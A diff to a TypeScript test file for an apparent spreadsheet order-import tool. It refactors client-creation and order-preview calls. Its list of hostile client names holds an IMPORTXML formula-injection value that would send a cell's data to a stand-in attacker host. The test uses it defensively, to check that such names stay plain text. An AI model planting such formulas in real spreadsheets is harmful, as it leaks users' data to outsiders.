@@ -2,7 +2,7 @@ import { describe, expect, it } from 'vitest';
 import { callServer } from '../../callServer';
 import { cellAt, rowsOf } from '../../columnOf';
 import { openText } from '../../openFile';
-import { ORDERS, recognisedOrders } from '../../orders';
+import { clientsRequest, ORDERS } from '../../orders';
 
 const HOSTILE = [
   '=IMPORTXML("http://evil.example/?d="&A2;"//a")',
@@ -32,14 +32,14 @@ describe.each(['consumed', 'kept'] as const)(
   apostropheInText => {
     it('stand in the sheet as the very text they are, and no formula is born', async () => {
       const workbook = await openText(orders, 'pl_PL', { apostropheInText });
-      const source = recognisedOrders(workbook);
-      callServer(workbook, 'createClients', { ...source, sheetName: null });
+      const source = clientsRequest(workbook);
+      callServer(workbook, 'createClients', source);
       const names = () => rowsOf(workbook, 'Klienci', ['client'], HOSTILE.length + 1).flat();
       const place = (row: number) => cellAt(workbook, 'Klienci', 'client', row);
       expect(names()).toEqual([...HOSTILE, '']);
       expect(HOSTILE.map((_, row) => workbook.formula('Klienci', place(row))).filter(Boolean)).toEqual([]);
 
-      callServer(workbook, 'createClients', { ...source, sheetName: null });
+      callServer(workbook, 'createClients', source);
       expect(names()).toEqual([...HOSTILE, '']);
       expect(HOSTILE.map((_, row) => workbook.formula('Klienci', place(row))).filter(Boolean)).toEqual([]);
       expect(callServer(workbook, 'loadProfile').clients).toEqual(HOSTILE);
@@ -69,6 +69,7 @@ describe('faulty order lines', () => {
     const preview = callServer(workbook, 'previewOrders', {
       sheetId,
       columns: { day: 0, client: 1, amount: 2, profit: 3 },
+      headers: ['Data', 'Klient', 'Kwota', 'Zysk'],
     });
     expect(preview).toMatchObject({ orders: 2, clients: 2, revenue: 150 });
     expect(preview.skipped).toEqual([
@@ -87,16 +88,17 @@ describe('faulty order lines', () => {
     const workbook = await openText('Data;Klient;Kwota\nwczoraj;Alfa;100', 'pl_PL');
     const { sheetId } = callServer(workbook, 'openWorkbook').orderSheets[0]!;
     const columns = { day: 0, client: 1, amount: 2, profit: null };
-    expect(() => callServer(workbook, 'previewOrders', { sheetId, columns })).toThrow(
+    const source = { sheetId, columns, headers: ['Data', 'Klient', 'Kwota'] };
+    expect(() => callServer(workbook, 'previewOrders', source)).toThrow(
       'Żaden wiersz arkusza „orders” nie ma dnia, klienta i kwoty. Sprawdź wybrane kolumny.',
     );
-    expect(() => callServer(workbook, 'previewOrders', { sheetId, columns: { ...columns, day: null } })).toThrow(
+    expect(() => callServer(workbook, 'previewOrders', { ...source, columns: { ...columns, day: null } })).toThrow(
       'Wybierz kolumny z dniem, klientem i kwotą.',
     );
-    expect(() => callServer(workbook, 'previewOrders', { sheetId, columns: { ...columns, amount: 0 } })).toThrow(
+    expect(() => callServer(workbook, 'previewOrders', { ...source, columns: { ...columns, amount: 0 } })).toThrow(
       'Jedna kolumna nie może wystąpić dwa razy',
     );
-    expect(() => callServer(workbook, 'previewOrders', { sheetId: 999, columns })).toThrow('Tego arkusza nie ma już');
+    expect(() => callServer(workbook, 'previewOrders', { ...source, sheetId: 999 })).toThrow('Tego arkusza nie ma już');
   });
 });
 
@@ -108,7 +110,7 @@ describe('days', () => {
       const { createWorkbook } = await import('../../../../src/workbook/createWorkbook');
       const { builtFiles } = await import('../../openFile');
       const workbook = createWorkbook({ files: builtFiles(), snapshot: { ...opened.snapshot(), timeZone } });
-      callServer(workbook, 'createClients', { ...recognisedOrders(workbook), sheetName: null });
+      callServer(workbook, 'createClients', clientsRequest(workbook));
       const place = (key: string) => cellAt(workbook, 'Клиенты', key, 0);
       expect(workbook.display('Клиенты', place('firstDay'))).toBe('05.01.2026');
       expect(workbook.display('Клиенты', place('lastDay'))).toBe('04.02.2026');
